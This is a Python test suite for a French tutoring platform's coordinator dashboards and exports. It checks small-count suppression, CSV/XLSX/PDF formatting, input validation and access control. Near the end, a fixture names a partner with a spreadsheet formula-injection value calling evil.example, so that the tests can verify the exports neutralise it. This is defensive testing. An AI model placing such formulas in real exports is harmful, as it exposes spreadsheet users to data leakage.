"""The coordinator's pages and exports: aggregates only, small cells never shown."""

from __future__ import annotations

import csv
import io
import re
import zipfile
import zlib

import pytest
from sqlalchemy import select

from tests.indicators.test_indicators import (  # noqa: F401 - the fixed March scenario
    language_exams,
    scenario,
)
from tutoring.accounts.models import Partner, Role
from tutoring.accounts.profiles import LearnerProfile
from tutoring.core.extensions import db

MARCH = "?period=month&value=2026-03"
SMALL = re.compile(r"^(?:[1-9]|10)$")  # 1 to k-1 with k = 11
NAMES = ("PersonneA", "PersonneB", "PersonneC", "PersonneE", "marc", "claire")


@pytest.fixture
def coordinator(app, client, signed_in):
    app.config["REQUIRE_2FA_ROLES"] = []
    signed_in(Role.COORDINATOR)
    return client


def _page_values(html: str) -> list[str]:
    cells = re.findall(r'<td class="num">([^<]*)</td>', html)
    figures = re.findall(r'<span class="value">([^<]*)</span>', html)
    return [v.strip() for v in cells + figures]


@pytest.mark.usefixtures("scenario")
@pytest.mark.parametrize("path", ["/coordination/", "/coordination/bilan"])
def test_pages_hide_every_small_count(coordinator, path):
    response = coordinator.get(path + MARCH)
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    values = _page_values(html)
    assert "&lt; 11" in values  # A, B, C and D were active: 4 people
    assert not [v for v in values if SMALL.match(v)]
    assert not [v for v in values if re.match(r"^\d", v) and v not in ("0", "0,0")]
    assert not any(re.search(rf"\b{name}\b", html) for name in NAMES)
    assert "Secret statistique" in html


@pytest.mark.usefixtures("scenario")
def test_values_at_or_above_the_threshold_are_shown(app, coordinator):
    app.config["SMALL_CELL_THRESHOLD"] = 2
    html = coordinator.get("/coordination/" + MARCH).get_data(as_text=True)
    assert '<span class="value">4</span>' in html  # active learners in March
    # by category: BPI 2 shown; BPT 1 and CIR 1 hidden (the pair together is 2)
    assert '<td class="num">&lt; 2</td>' in html


@pytest.mark.usefixtures("scenario")
def test_every_figure_links_to_its_definition(coordinator):
    html = coordinator.get("/coordination/" + MARCH).get_data(as_text=True)
    anchors = set(re.findall(r'/coordination/definitions#(def-[\w-]+)"', html))
    definitions = coordinator.get("/coordination/definitions").get_data(as_text=True)
    assert "def-beneficiaries-active" in anchors
    assert all(f'id="{a}"' in definitions for a in anchors)


@pytest.mark.usefixtures("scenario")
def test_csv_export_is_utf8_with_bom_french_headers_and_protected(coordinator):
    response = coordinator.get("/coordination/export.csv" + MARCH)
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].endswith('2026-03-31.csv"')
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == [
        "Bilan mensuel du CTAI — action 1",
        "du 1er mars 2026 au 31 mars 2026",
    ]
    assert rows[1] == [
        "Filtres",
        "Public : tous les publics ; partenaire prescripteur : tous les partenaires.",
    ]
    assert rows[2][0] == "Règle"
    assert "< 11" in rows[2][1]
    assert rows[4] == ["Rubrique", "Indicateur", "Valeur"]
    values = [r[-1] for r in rows[5:] if len(r) == 3]
    assert ["Bénéficiaires", "Apprenants actifs", "< 11"] in rows
    assert not [v for v in values if SMALL.match(v)]
    assert not any(name in raw.decode("utf-8") for name in NAMES)


@pytest.mark.usefixtures("scenario")
def test_xlsx_export_is_protected(coordinator):
    response = coordinator.get("/coordination/export.xlsx" + MARCH)
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as book:
        strings = book.read("xl/sharedStrings.xml").decode("utf-8")
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    texts = re.findall(r"<t[^>]*>([^<]*)</t>", strings)
    assert "&lt; 11" in texts  # a hidden figure is the text « < 11 »
    assert not [t for t in texts if SMALL.match(t)]
    numbers = re.findall(r'<c r="C\d+" s="\d+"><v>([^<]*)</v></c>', sheet)
    assert numbers  # the figures shown are numbers, not text
    assert not [n for n in numbers if SMALL.match(n)]
    assert not any(name in strings for name in NAMES)


def _xlsx_cells(response) -> dict[str, tuple[str, str]]:
    """Sheet 1's cells: reference -> (value or shared string, style number)."""
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as book:
        strings = re.findall(
            r"<t[^>]*>([^<]*)</t>", book.read("xl/sharedStrings.xml").decode()
        )
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
        styles = book.read("xl/styles.xml").decode("utf-8")
    cells = {}
    for ref, style, kind, value in re.findall(
        r'<c r="([A-Z]+\d+)"(?: s="(\d+)")?(?: t="(\w+)")?><v>([^<]*)</v></c>', sheet
    ):
        cells[ref] = (strings[int(value)] if kind == "s" else value, style)
    cells["styles"] = (styles, "")
    return cells


@pytest.mark.usefixtures("scenario")
def test_xlsx_figures_are_numbers_in_a_number_format(app, coordinator):
    app.config["SMALL_CELL_THRESHOLD"] = 2
    cells = _xlsx_cells(coordinator.get("/coordination/export.xlsx" + MARCH))
    row = next(
        ref[1:] for ref, (value, _s) in cells.items()
        if ref.startswith("B") and value == "Apprenants actifs"
    )  # fmt: skip
    value, style = cells[f"C{row}"]
    assert value == "4"  # a number cell (no t="s"), computed on by a spreadsheet
    assert style  # with a number format: « 4 » in French, « 1 234,5 » for hours
    assert 'formatCode="#,##0.0"' in cells["styles"][0]


@pytest.mark.usefixtures("scenario")
def test_exports_state_period_filters_rule_and_a_fitting_title(app, coordinator):
    partner_id = app_partner(app)
    query = f"?period=quarter&value=2026-T1&category=bpi&partner={partner_id}"
    raw = coordinator.get("/coordination/export.csv" + query).get_data()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == [
        "Bilan trimestriel du CTAI — action 1",
        "du 1er janvier 2026 au 31 mars 2026",
    ]
    assert rows[1] == [
        "Filtres",
        "Public : Bénéficiaire de la protection internationale (réfugié·e, "
        "protection subsidiaire, apatride) ; partenaire prescripteur : CADA Test.",
    ]
    assert rows[2][0] == "Règle"
    cells = _xlsx_cells(coordinator.get("/coordination/export.xlsx" + query))
    assert cells["A1"][0] == "Bilan trimestriel du CTAI — action 1"
    assert cells["B2"][0] == rows[1][1]
    assert cells["A3"][0] == "Règle"
    text = _pdf_text(coordinator.get("/coordination/bilan.pdf" + query).get_data())
    assert "Bilan trimestriel du CTAI" in text
    assert "Bilan annuel" not in text
    assert "CADA Test" in text
    assert "Secret statistique" in text
    page = coordinator.get("/coordination/bilan" + query).get_data(as_text=True)
    assert "<h1>Bilan trimestriel du CTAI — action 1</h1>" in page
    assert "CADA Test" in page


def _pdf_text(data: bytes) -> str:
    """The text drawn in a PDF of core fonts: its streams, inflated."""
    out = []
    for stream in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", data, re.S):
        try:
            out.append(zlib.decompress(stream).decode("latin-1"))
        except zlib.error:
            out.append(stream.decode("latin-1"))
    return "".join(out)


def app_partner(app) -> int:
    with app.app_context():
        structure_id = db.session.scalar(select(LearnerProfile.structure_id).limit(1))
        partner = Partner(structure_id=structure_id, name="CADA Test")
        db.session.add(partner)
        db.session.commit()
        return partner.id


@pytest.mark.usefixtures("language_exams")
def test_language_mock_exam_passes_reach_every_output(app, coordinator):
    app.config["SMALL_CELL_THRESHOLD"] = 1  # nothing hidden: the values can be read
    label = "Examens de français blancs réussis en expression écrite"
    html = coordinator.get("/coordination/" + MARCH).get_data(as_text=True)
    row = re.search(
        r'href="/coordination/definitions#def-exams-language_passed_ee"[^>]*>'
        r"([^<]*)</a>.*?<td class=\"num\">([^<]*)</td>",
        html,
        re.S,
    )
    assert row is not None
    assert row.groups() == (label, "2")
    definitions = coordinator.get("/coordination/definitions").get_data(as_text=True)
    assert 'id="def-exams-language_passed_all"' in definitions
    assert "dans les quatre épreuves d’un même examen de français blanc" in definitions
    raw = coordinator.get("/coordination/export.csv" + MARCH).get_data()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert ["Examens blancs", label, "2"] in rows
    assert [
        "Examens blancs",
        "Examens de français blancs réussis dans les quatre compétences",
        "1",
    ] in rows
    report = coordinator.get("/coordination/bilan" + MARCH).get_data(as_text=True)
    assert label in report
    xlsx = coordinator.get("/coordination/export.xlsx" + MARCH).get_data()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        assert label in book.read("xl/sharedStrings.xml").decode("utf-8")


@pytest.mark.usefixtures("scenario")
def test_annual_report_pdf_is_a_pdf(coordinator):
    response = coordinator.get("/coordination/bilan.pdf?period=year&value=2026")
    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    assert response.get_data().startswith(b"%PDF")


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("?period=month&value=2026-13", "Période illisible"),
        ("?period=custom&from=2026-02-30&to=2026-03-01", "illisible"),
        ("?period=custom&from=2026-03-01&to=2026-02-01", "précède"),
        ("?period=custom&from=2020-01-01&to=2026-01-01", "trop longue"),
        ("?category=martien", "Catégorie de public inconnue"),
        ("?partner=abc", "Partenaire inconnu"),
    ],
)
def test_bad_period_or_filter_answers_400_with_a_message(coordinator, query, message):
    for path in (
        "/coordination/",
        "/coordination/export.csv",
        "/coordination/bilan.pdf",
    ):
        response = coordinator.get(path + query)
        assert response.status_code == 400
        assert message in response.get_data(as_text=True)


def test_other_roles_cannot_read_indicators(client, signed_in):
    signed_in(Role.REFERENT)
    for path in (
        "/coordination/",
        "/coordination/export.csv",
        "/coordination/bilan.pdf",
    ):
        assert client.get(path).status_code == 403


FORMULA = '=HYPERLINK("http://evil.example/?x","x")'


@pytest.fixture
def formula_partner(app, make, scenario):  # noqa: F811 - the scenario fixture
    """A partner whose name is a spreadsheet formula, prescriber of learners A and B."""

    def build():
        profile = db.session.get(LearnerProfile, scenario["A"])
        partner = Partner(structure_id=profile.structure_id, name=FORMULA)
        db.session.add(partner)
        db.session.flush()
        for name in ("A", "B"):
            db.session.get(LearnerProfile, scenario[name]).partner_id = partner.id
        db.session.commit()

    make.run(build)
    app.config["SMALL_CELL_THRESHOLD"] = 1  # nothing hidden: the name is shown


@pytest.mark.usefixtures("formula_partner")
def test_csv_export_neutralises_cells_a_spreadsheet_would_run(coordinator):
    raw = coordinator.get("/coordination/export.csv" + MARCH).get_data()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells  # shown as text, never run
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    # negative or plain numbers stay numbers
    assert not [c for c in cells if c.startswith("'") and c[1:].lstrip("-").isdigit()]


@pytest.mark.usefixtures("formula_partner")
def test_xlsx_export_writes_a_formula_like_name_as_text(coordinator):
    xlsx = coordinator.get("/coordination/export.xlsx" + MARCH).get_data()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        sheets = "".join(
            book.read(n).decode("utf-8") for n in book.namelist() if "worksheets" in n
        )
        strings = book.read("xl/sharedStrings.xml").decode("utf-8")
    assert "<f>" not in sheets  # no formula cell anywhere
    assert "HYPERLINK" in strings  # the name is there, as a plain string
